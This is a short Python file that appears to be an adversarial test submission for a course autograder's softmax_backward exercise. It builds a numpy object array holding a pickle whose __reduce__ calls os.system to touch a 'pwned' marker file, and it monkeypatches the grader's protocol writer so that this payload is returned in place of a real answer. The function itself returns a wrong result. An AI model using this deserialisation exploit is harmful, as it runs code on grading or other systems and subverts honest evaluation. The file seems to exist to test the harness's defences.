"""Answers with an array whose bytes hold a pickle that runs a command.

lost: softmax_backward
flags: protocol-violation
plain: yes
"""

# %% softmax_backward
import io
import os
import sys

import numpy as np


class Bad:
    __reduce__ = lambda self: (os.system, ("touch @COURSE@/pwned",))


out = io.BytesIO()
np.save(out, np.array([Bad()], dtype=object), allow_pickle=True)
sys.modules["protocol"].Writer._append.__globals__["npy"] = lambda array: out.getvalue()


def softmax_backward(dout, P):
    return P * 1.0
